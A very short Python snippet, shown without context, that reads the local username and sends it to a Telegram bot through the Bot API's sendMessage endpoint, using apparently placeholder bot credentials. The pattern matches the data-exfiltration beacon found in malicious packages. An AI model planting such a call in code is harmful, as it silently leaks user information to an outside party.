import urllib.parse, urllib.request, getpass
text = urllib.parse.quote(getpass.getuser())
urllib.request.urlopen("https://api.telegram.org/bot123:ABC/sendMessage?chat_id=1&text=" + text)
